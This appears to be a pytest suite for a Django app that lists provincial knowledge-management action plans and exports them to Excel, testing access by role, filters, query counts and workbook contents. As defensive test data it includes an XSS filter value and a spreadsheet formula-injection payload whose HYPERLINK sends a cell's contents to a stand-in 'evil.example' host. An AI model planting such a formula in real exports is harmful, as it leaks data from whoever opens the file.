"""The year's KM Action Plans as a list and an Excel workbook (issue 9): who sees which plan, the
filters and their counts, hostile filters, the queries it makes and what the workbook holds."""

import datetime
import io
import re
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext
from openpyxl import load_workbook

from actionplans import services, workflow
from actionplans.models import ActionPlan, Activity, PlanStep, State
from actionplans.views.lists import NO_SUCH_CHOICE
from tests.factories import AgencyFactory, FiscalYearFactory, IssueFactory, KpiFactory
from worksheets.models import KnowledgeItem, StrategicIssue, WorkProcess

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
OCTOBER = datetime.date(2025, 10, 1)
DECEMBER = datetime.date(2025, 12, 1)


def knowledge(issue, responsible=(), involved=(), name="ความรู้") -> KnowledgeItem:
    """Knowledge chosen in worksheet 4 whose worksheet 3 names ``responsible`` and ``involved``."""
    kpi = KpiFactory(issue=issue, chosen=True, responsible=list(responsible))
    process = WorkProcess.objects.create(kpi=kpi, order=1, name="การผลิต")
    item = KnowledgeItem.objects.create(process=process, order=1, name=name, kind="tacit", chosen=True)
    item.responsible_agencies.set(responsible)
    item.involved_agencies.set(involved)
    return item


def plan(item, agency, user, state=State.DRAFT, previous=None, activities=0) -> ActionPlan:
    made = ActionPlan.objects.create(
        fiscal_year=item.process.kpi.issue.fiscal_year, knowledge=item, agency=agency, created_by=user,
        state=state, previous=previous, revision=previous.revision + 1 if previous else 1,
    )  # fmt: skip
    for n in range(activities):
        Activity.objects.create(
            plan=made, order=n + 1, name=f"กิจกรรม {n + 1}", start_month=OCTOBER, end_month=DECEMBER
        )
    return made


def step(plan_, user, action, to_state, at=None) -> PlanStep:
    return PlanStep.objects.create(
        plan=plan_, action=action, from_state=State.DRAFT, to_state=to_state, actor=user,
        signer_name=user.get_full_name(), at=at or timezone.now(),
    )  # fmt: skip


@pytest.fixture
def english(settings):
    settings.LANGUAGE_CODE = "en"


def listed(response) -> set[int]:
    return {row["plan"].pk for row in response.context["rows"]}


@pytest.fixture
def plans(fiscal_year, agency, other_agency, km_officer, issue_lead, other_agency_user):
    """Issue 1 (the issue lead's team) and issue 2, with plans of both agencies and the province in
    several states, and a plan approved then revised (its new revision still a draft)."""
    one = IssueFactory(fiscal_year=fiscal_year, number=1, title="การเกษตรมูลค่าสูง")
    one.members.add(issue_lead)
    two = IssueFactory(fiscal_year=fiscal_year, number=2, title="การท่องเที่ยว")
    a = knowledge(one, [agency], name="การผลิตพืชปลอดภัย")
    b = knowledge(one, [other_agency], name="การจัดการน้ำ")
    c = knowledge(two, [other_agency], name="การตลาดท่องเที่ยว")
    d = knowledge(two, [other_agency], name="การบริการ")
    e = knowledge(two, [other_agency], involved=[], name="การสื่อสาร")
    made = {
        "a_draft": plan(a, agency, km_officer, activities=2),
        "b_draft": plan(b, other_agency, other_agency_user),
        "c_approved": plan(c, other_agency, other_agency_user, State.APPROVED, activities=3),
        "province_submitted": plan(a, None, km_officer, State.SUBMITTED, activities=1),
        "e_draft": plan(e, other_agency, other_agency_user),
    }
    made["d1"] = plan(d, other_agency, other_agency_user, State.APPROVED, activities=1)
    made["d2"] = plan(d, other_agency, other_agency_user, previous=made["d1"], activities=1)
    return {"one": one, "two": two, **{k: v.pk for k, v in made.items()}}


EVERY = {"a_draft", "b_draft", "c_approved", "province_submitted", "e_draft", "d2"}
SEEN_BY = {
    "km_officer": EVERY,
    "cko": EVERY,
    "ceo": EVERY,
    # Its own plans, the province's plan of knowledge worksheet 3 names it for, approved plans
    # (the approved revision of a plan whose next revision is another agency's draft).
    "agency_user": {"a_draft", "province_submitted", "c_approved", "d1"},
    "coordinator": {"a_draft", "province_submitted", "c_approved", "d1"},
    "agency_cko": {"a_draft", "province_submitted", "c_approved", "d1"},
    "agency_ceo": {"a_draft", "province_submitted", "c_approved", "d1"},
    "project_manager": {"a_draft", "province_submitted", "c_approved", "d1"},
    "other_agency_user": {"b_draft", "c_approved", "e_draft", "d2"},
    # Every plan of the team's issue 1, and the approved ones of issue 2.
    "issue_lead": {"a_draft", "b_draft", "province_submitted", "c_approved", "d1"},
    "stranger": set(),
}


@pytest.mark.parametrize("actor", SEEN_BY)
def test_each_role_sees_the_plans_it_may_read(request, login, plans, actor):
    response = login(request.getfixturevalue(actor)).get(reverse("actionplan-list"))
    assert response.status_code == 200
    assert listed(response) == {plans[name] for name in SEEN_BY[actor]}
    page = response.content.decode()
    for name in SEEN_BY[actor]:
        assert reverse("actionplan-detail", args=[plans[name]]) in page


def test_another_agencys_draft_is_neither_listed_nor_exported(login, agency_user, plans):
    client = login(agency_user)
    page = client.get(reverse("actionplan-list")).content.decode()
    assert "การจัดการน้ำ" not in page and f'id="plan-{plans["b_draft"]}"' not in page
    book = load_workbook(io.BytesIO(client.get(reverse("actionplan-export")).content))
    text = " ".join(str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    assert "การจัดการน้ำ" not in text and "การสื่อสาร" not in text
    assert "การผลิตพืชปลอดภัย" in text and "การตลาดท่องเที่ยว" in text


def test_a_row_shows_the_plan_header_revision_state_activities_and_last_step(
    english, login, km_officer, cko, plans, agency
):
    submitted = ActionPlan.objects.get(pk=plans["province_submitted"])
    when = timezone.make_aware(datetime.datetime(2026, 1, 15, 10, 30))
    step(submitted, cko, PlanStep.Action.SUBMIT, State.SUBMITTED, at=when)
    client = login(km_officer)
    page = client.get(reverse("actionplan-list"), **EN).content.decode()
    row = re.search(rf'<tr id="plan-{plans["province_submitted"]}".*?</tr>', page, re.S).group(0)
    assert "1. การเกษตรมูลค่าสูง" in row and "การผลิตพืชปลอดภัย" in row
    assert "กาฬสินธุ์" in row  # the province's plan
    assert ">Submitted for review<" in row and ">1<" in row
    assert "Submitted" in row and "15 ม.ค. 2569 10:30 น." in row
    revised = re.search(rf'<tr id="plan-{plans["d2"]}".*?</tr>', page, re.S).group(0)
    assert '<td class="col-no">2</td>' in revised  # revision 2
    opened = re.search(rf'<tr id="plan-{plans["a_draft"]}".*?</tr>', page, re.S).group(0)
    assert "Opened" in opened and agency.name in opened and '<td class="col-no">2</td>' in opened


def test_it_filters_by_issue_agency_and_state_and_counts_each_state(login, km_officer, plans, other_agency):
    client = login(km_officer)
    url = reverse("actionplan-list")
    two = plans["two"].pk
    assert listed(client.get(url, {"issue": two})) == {plans[n] for n in ("c_approved", "d2", "e_draft")}
    assert listed(client.get(url, {"agency": "province"})) == {plans["province_submitted"]}
    by_agency = client.get(url, {"agency": other_agency.pk})
    assert listed(by_agency) == {plans[n] for n in ("b_draft", "c_approved", "d2", "e_draft")}
    drafts = client.get(url, {"state": "draft"})
    assert listed(drafts) == {plans[n] for n in ("a_draft", "b_draft", "d2", "e_draft")}
    both = client.get(url, {"issue": two, "state": "draft"})
    assert listed(both) == {plans["d2"], plans["e_draft"]}
    # The counts are those of the issue and agency chosen, whatever the state chosen.
    counts = {value: count for value, _label, count, _url in both.context["counts"]}
    assert counts == {"draft": 2, "submitted": 0, "reviewed": 0, "approved": 1, "returned": 0}
    assert both.context["total"] == 3
    page = both.content.decode()
    assert re.search(r'id="count-draft"[^>]*>[^<]*<span[^>]*>2</span>', page)
    assert re.search(r'id="count-all"[^>]*>[^<]*<span[^>]*>3</span>', page)
    # Each count links to its state with the other filters kept; the export keeps them all.
    assert f'href="?issue={two}&amp;state=approved"' in page
    assert f"{reverse('actionplan-export')}?issue={two}&amp;state=draft" in page


@pytest.mark.parametrize(
    "query",
    [
        {"state": "<script>alert(1)</script>"},
        {"issue": "abc"},
        {"agency": "99999999999999999999"},
        {"issue": "9" * 30, "agency": "-1", "state": "DRAFT"},
        {"agency": "1\x00"},
    ],
)
def test_a_filter_that_is_no_choice_is_left_out_with_a_message(login, km_officer, plans, query):
    client = login(km_officer)
    response = client.get(reverse("actionplan-list"), query)
    assert response.status_code == 200
    assert listed(response) == {plans[name] for name in EVERY}
    page = response.content.decode()
    assert "<script>alert(1)" not in page
    assert str(NO_SUCH_CHOICE) in page and 'class="invalid-feedback"' in page
    export = client.get(reverse("actionplan-export"), query)
    assert export.status_code == 200
    assert load_workbook(io.BytesIO(export.content)).worksheets[0].max_row == 1 + len(EVERY)


def test_another_years_issue_is_no_choice(login, km_officer, plans, province):
    elsewhere = IssueFactory(fiscal_year=FiscalYearFactory(province=province, year=2568), number=1)
    response = login(km_officer).get(reverse("actionplan-list"), {"issue": elsewhere.pk})
    assert listed(response) == {plans[name] for name in EVERY}
    assert "issue" in response.context["form"].errors


def test_the_stranger_sees_its_own_empty_list(login, stranger, plans):
    response = login(stranger).get(reverse("actionplan-list"))
    assert response.status_code == 200 and response.context["rows"] == []
    assert login(stranger).get(reverse("actionplan-export")).status_code == 200


def test_anonymous_goes_to_log_in(client):
    for name in ("actionplan-list", "actionplan-export"):
        response = client.get(reverse(name))
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_the_new_plan_button_shows_when_knowledge_awaits_a_plan(
    login, agency_user, other_agency_user, fiscal_year, agency
):
    issue = IssueFactory(fiscal_year=fiscal_year, number=1)
    knowledge(issue, [agency], name="การผลิตพืชปลอดภัย")
    StrategicIssue.objects.filter(pk=issue.pk).update(finalised_at=timezone.now())
    button = f'href="{reverse("actionplan-create")}"'
    assert button in login(agency_user).get(reverse("actionplan-list")).content.decode()
    assert button not in login(other_agency_user).get(reverse("actionplan-list")).content.decode()


def test_a_plan_made_through_the_services_is_listed_for_its_reviewer(
    login, agency_user, agency_cko, other_agency_user, fiscal_year, agency
):
    issue = IssueFactory(fiscal_year=fiscal_year, number=1)
    item = knowledge(issue, [agency], name="การผลิตพืชปลอดภัย")
    StrategicIssue.objects.filter(pk=issue.pk).update(finalised_at=timezone.now())
    opened = services.open_plan(agency_user, fiscal_year, item, agency.pk)
    row = {
        "name": "ประชุมแลกเปลี่ยนเรียนรู้", "start_month": OCTOBER, "end_month": DECEMBER, "indicator": "",
        "target": "", "target_group": "", "responsible": "", "remark": "", "steps": [],
    }  # fmt: skip
    services.save_activities(opened, [row], services.fingerprint(opened), agency_user)
    workflow.act(opened, agency_user, PlanStep.Action.SUBMIT)
    response = login(agency_cko).get(reverse("actionplan-list"), {"state": "submitted"})
    assert listed(response) == {opened.pk}
    assert response.context["rows"][0]["plan"].activity_count == 1
    assert listed(login(other_agency_user).get(reverse("actionplan-list"))) == set()


# --- Queries ----------------------------------------------------------------------------------------


def _more_plans(fiscal_year, agency, user, n: int) -> None:
    issue = StrategicIssue.objects.get(fiscal_year=fiscal_year, number=1)
    for i in range(n):
        item = knowledge(issue, [agency], name=f"ความรู้เพิ่ม {i}")
        made = plan(item, agency, user, State.SUBMITTED, activities=2)
        step(made, user, PlanStep.Action.SUBMIT, State.SUBMITTED)
        plan(item, None, user, State.APPROVED)


@pytest.mark.parametrize("actor", ["km_officer", "agency_user", "issue_lead", "other_agency_user"])
@pytest.mark.parametrize("name", ["actionplan-list", "actionplan-export"])
def test_it_makes_a_fixed_number_of_queries(
    request, login, plans, fiscal_year, agency, km_officer, actor, name, django_assert_max_num_queries
):
    client = login(request.getfixturevalue(actor))
    _more_plans(fiscal_year, agency, km_officer, 2)
    with CaptureQueriesContext(connection) as small:
        assert client.get(reverse(name)).status_code == 200
    _more_plans(fiscal_year, agency, km_officer, 6)
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(reverse(name))
    if name == "actionplan-list" and actor == "km_officer":
        assert len(response.context["rows"]) == len(EVERY) + 16


# --- Excel ------------------------------------------------------------------------------------------


def test_the_workbook_holds_the_plans_and_their_activities_in_form_2s_order(
    english, login, km_officer, plans, other_agency
):
    activity = Activity.objects.filter(plan_id=plans["c_approved"]).first()
    activity.indicator, activity.target, activity.target_group = "จำนวนครั้ง", "3 ครั้ง", "เกษตรกร"
    activity.responsible, activity.remark, activity.status = "กลุ่มงาน", "ทดลอง", Activity.Status.DONE
    activity.save()
    response = login(km_officer).get(reverse("actionplan-export"), {"issue": plans["two"].pk}, **EN)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="km-action-plans-2569.xlsx"' in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Plans 2569", "Activities 2569"]
    sheet, activities = book.worksheets
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "Strategic issue", "Necessary knowledge (K)", "KPI under the agreement", "KPI target under the agreement",
        "Agency / province name", "Revision", "State of the plan", "Number of activities", "Last step", "By",
        "When", "Address of the plan",
    ]  # fmt: skip
    assert [r[1] for r in rows[1:]] == ["การตลาดท่องเที่ยว", "การบริการ", "การสื่อสาร"]
    approved = rows[1]
    assert approved[0] == "2. การท่องเที่ยว" and approved[4] == other_agency.name
    assert approved[3] == "80 ร้อยละ" and approved[5:8] == [1, "Approved", 3]
    assert approved[11].endswith(reverse("actionplan-detail", args=[plans["c_approved"]]))
    assert rows[2][5] == 2  # the revision after the approved one
    lines = [[c.value for c in row] for row in activities.iter_rows()]
    assert lines[0][4:] == [
        "No.", "KM activity", "Period", "Indicator", "Target", "Target group", "Responsible", "Status", "Remark",
    ]  # fmt: skip
    assert len(lines) == 1 + 3 + 1  # three activities of the approved plan, one of revision 2
    done = next(line for line in lines if line[7] == "จำนวนครั้ง")
    assert done[1:5] == [other_agency.name, "การตลาดท่องเที่ยว", 1, 1]
    assert done[6:] == ["ต.ค. 2568 – ธ.ค. 2568", "จำนวนครั้ง", "3 ครั้ง", "เกษตรกร", "กลุ่มงาน", "Done", "ทดลอง"]
    assert lines[2][11] == "Not reported yet"


def test_the_workbook_headers_are_in_the_users_language(login, km_officer, plans):
    book = load_workbook(io.BytesIO(login(km_officer).get(reverse("actionplan-export")).content))
    first = [c.value for c in book.worksheets[0][1]]
    assert first[0] == "ประเด็นยุทธศาสตร์" and first[1] == gettext("Necessary knowledge (K)")


def test_text_that_looks_like_a_formula_is_stored_as_text(login, km_officer, fiscal_year, agency):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"เปิด")'
    issue = IssueFactory(fiscal_year=fiscal_year, number=1, title="+66 43 811 000")
    made = plan(knowledge(issue, [agency], name=hostile), agency, km_officer, activities=1)
    Activity.objects.filter(plan=made).update(name="@SUM(A1:A9)", remark="-5 %")
    data = login(km_officer).get(reverse("actionplan-export")).content
    book = load_workbook(io.BytesIO(data))
    assert book.worksheets[0]["B2"].value == hostile and book.worksheets[0]["B2"].data_type == "s"
    assert book.worksheets[1]["F2"].value == "@SUM(A1:A9)" and book.worksheets[1]["F2"].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)


def test_the_list_without_a_fiscal_year_says_so(login, km_officer):
    response = login(km_officer).get(reverse("actionplan-list"))
    assert response.status_code == 200 and response.context["rows"] == []
    assert gettext("There is no fiscal year yet.") in response.content.decode()


def test_a_plan_of_another_province_is_never_listed(login, km_officer, plans, stranger):
    elsewhere_year = FiscalYearFactory(province=stranger.agency.province, year=2569)
    elsewhere = AgencyFactory(province=stranger.agency.province)
    item = knowledge(IssueFactory(fiscal_year=elsewhere_year, number=1), [elsewhere], name="ความรู้ขอนแก่น")
    theirs = plan(item, elsewhere, stranger, State.APPROVED)
    assert theirs.pk not in listed(login(km_officer).get(reverse("actionplan-list")))
    assert listed(login(stranger).get(reverse("actionplan-list"))) == {theirs.pk}


@pytest.mark.validator
def test_the_list_and_the_home_page_with_plans_are_valid_html(
    login, km_officer, agency_user, plans, tmp_path
):
    from tests.test_pages import nu_errors

    pages = {
        "list.html": login(km_officer).get(reverse("actionplan-list")),
        "filtered.html": login(km_officer).get(reverse("actionplan-list"), {"state": "<b>", "issue": "abc"}),
        "agency.html": login(agency_user).get(reverse("actionplan-list")),
        "home-km.html": login(km_officer).get(reverse("home")),
        "home-agency.html": login(agency_user).get(reverse("home")),
    }
    for name, response in pages.items():
        assert response.status_code == 200
        (tmp_path / name).write_text(response.content.decode(), encoding="utf-8")
    assert nu_errors(tmp_path) == []


@pytest.mark.browser
def test_the_list_and_the_home_page_with_plans_are_accessible(
    page, live_server, transactional_db, km_officer, plans
):
    from axe_playwright_python.sync_playwright import Axe

    from tests.test_browser import log_in

    log_in(page, live_server, km_officer.username)
    problems = []
    for url in (reverse("actionplan-list"), reverse("actionplan-list") + "?state=x", reverse("home")):
        page.goto(live_server.url + url)
        for violation in Axe().run(page).response["violations"]:
            if violation["impact"] in ("serious", "critical"):
                problems += [
                    f"{url}: {violation['id']} at {' '.join(n['target'])}" for n in violation["nodes"]
                ]
    # Choosing a state submits the filters (static/js/app.js): the list shows that state's plans.
    page.goto(live_server.url + reverse("actionplan-list"))
    page.locator("#id_state").select_option("approved")
    page.wait_for_url(re.compile(r"state=approved"))
    assert page.locator("tr.plan-row").count() == 1
    assert not problems, "\n".join(problems)
